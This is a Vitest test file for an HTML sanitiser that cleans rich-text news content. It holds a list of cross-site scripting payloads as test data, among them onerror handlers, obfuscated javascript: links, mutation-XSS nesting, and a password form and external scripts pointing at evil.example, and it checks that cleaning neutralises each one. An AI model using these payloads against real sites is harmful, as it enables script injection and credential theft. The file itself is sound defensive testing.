import { expect, test } from 'vitest'
import { cleanContent, contentForPage, picturesIn, richText, wordsOfContent } from './content.rules.server.ts'

const key = 'news/0b5f8f3e-6f3b-4c5e-9d55-0d7d1f3c8a11.webp'
const picture = { width: 800, height: 450, small: `/files/${key}`, large: '/files/news/large.webp' }
const onPage = { origin: 'https://hub.test', pictures: new Map([[key, picture]]) }

const everything = `<h1>A</h1><h2>B</h2><h3>C</h3><h4>D</h4><h5>E</h5><h6>F</h6><p>one<br />two <strong>three</strong> <em>four</em> <u>five</u></p><ol><li>six</li></ol><ul><li>seven</li></ul><blockquote><p>eight</p></blockquote><p><a href="https://example.com/a?b=1&amp;c=2">nine</a></p><img src="/files/${key}" alt="A desk" />`

test('VAL-03, NEWS-09, control: all allowed content passes unchanged', () => {
  expect(cleanContent(everything)).toBe(everything)
  const unsecured = '<p><a href="http://example.com/a">ten</a></p>'
  expect(cleanContent(unsecured)).toBe(unsecured)
})

/** Attacks. Nothing may be left that runs, loads, hides or leads elsewhere than it says. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="/files/cv/0b5f8f3e-6f3b-4c5e-9d55-0d7d1f3c8a11.webp">',
  '<img src="/files/originals/news/0b5f8f3e-6f3b-4c5e-9d55-0d7d1f3c8a11.webp">',
  '<img src="/files/news/../../admin/sign-out.webp">',
  '<img src="/admin/sign-out">',
  `<img src="/files/${key}?x=1" onload=alert(1)>`,
  `<img srcset="https://evil.example/x 1x" alt="evil">`,
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://hub.test@evil.example/">x</a>',
  '<a href="https:\\\\evil.example">x</a>',
  '<a href="ftp://evil.example/">x</a>',
  '<p style="background:url(//evil.example)">x</p>',
  '<p onclick="alert(1)" id="main" class="btn">x</p>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example/x.css"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><p>x</p>',
  '<p>unclosed <strong <img src=x onerror=alert(1)>',
  '<video src="https://evil.example/x" autoplay></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

/** Every tag with its attributes, as a browser would parse them. */
const tagsIn = (html: string) =>
  [...html.matchAll(/<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi)].map(
    ([, tag = '', attributes = '']) => ({
      tag,
      attributes,
    }),
  )
const allowed = /^(?:p|br|strong|em|u|ol|ul|li|h[1-6]|a|img|blockquote)$/
const isHarmless = (html: string) =>
  // Every remaining "<" belongs to an allowed tag with allowed attributes.
  (html.match(/</g) ?? []).length === tagsIn(html).length &&
  tagsIn(html).every(
    ({ tag, attributes }) =>
      allowed.test(tag) &&
      /^(?: (?:href="https?:\/\/[^"]*"|src="\/files\/news\/[0-9a-f-]{36}\.webp"|alt="[^"]*"))*$/.test(
        attributes,
      ) &&
      !attributes.includes('evil.example'),
  )

test.each(attacks)('NEWS-09: %s is harmless after cleaning', (attack) => {
  const clean = cleanContent(`<p>before</p>${attack}<p>after</p>`)
  expect(isHarmless(clean), clean).toBe(true)
  expect(clean).toContain('before')
  expect(cleanContent(clean)).toBe(clean)
  const shown = contentForPage(attack, onPage)
  expect(shown).not.toMatch(/<script|\son\w+=|javascript:|<iframe|<style|<svg/i)
  expect(shown.replaceAll('&lt;', '')).not.toMatch(/evil\.example/)
})

test('control: most of these attacks are detected by the check when they are not cleaned', () => {
  const seen = attacks.filter((attack) => !isHarmless(attack))
  expect(attacks.length - seen.length).toBeLessThanOrEqual(1)
})

test('pasted HTML is converted: b and i, no spans and no classes, the text is kept', () => {
  expect(cleanContent('<div><span style="x"><b>bold</b> <i>leaning</i></span></div>')).toBe(
    '<strong>bold</strong> <em>leaning</em>',
  )
  expect(cleanContent('<p>see <a href="/programs">here</a></p>')).toBe('<p>see here</p>')
})

test('on the page there is no h1, external links are marked, and our own pictures come in their sizes', () => {
  const shown = contentForPage(
    `<h1>Top</h1><a href="https://hub.test/programs">ours</a><a href="https://hub.test.evil/">theirs</a><img src="/files/${key}" alt='A "desk"' />`,
    onPage,
  )
  expect(shown).toContain('<h2>Top</h2>')
  expect(shown).toContain('<a href="https://hub.test/programs">ours</a>')
  expect(shown).toContain('<a href="https://hub.test.evil/" rel="nofollow noopener">theirs</a>')
  expect(shown).toContain(
    `<img src="/files/${key}" srcset="/files/${key} 400w, /files/news/large.webp 800w" sizes="(min-width: 40rem) 38rem, 92vw" alt="A &quot;desk&quot;" width="800" height="450" loading="lazy" decoding="async" />`,
  )
})

test('a picture that is no longer in the library leaves no gap', () => {
  expect(
    contentForPage(`<p>x</p><img src="/files/${key}" alt="" />`, { ...onPage, pictures: new Map() }),
  ).toBe('<p>x</p>')
  expect(picturesIn(`<img src="/files/${key}" alt="a" /><img src="/files/${key}" alt="b" />`)).toEqual([key])
})

test('content without text or picture is empty, and words end where a paragraph ends', () => {
  const rule = richText(100)
  expect(rule.parse('<p></p>')).toBe('')
  expect(rule.parse('<p> <br></p><script>x</script>')).toBe('')
  expect(rule.parse(`<img src="/files/${key}" alt="" />`)).not.toBe('')
  expect(rule.safeParse('x'.repeat(101)).success).toBe(false)
  expect(wordsOfContent('<p>one</p><p>two</p>').split(/\s+/).filter(Boolean)).toEqual(['one', 'two'])
})
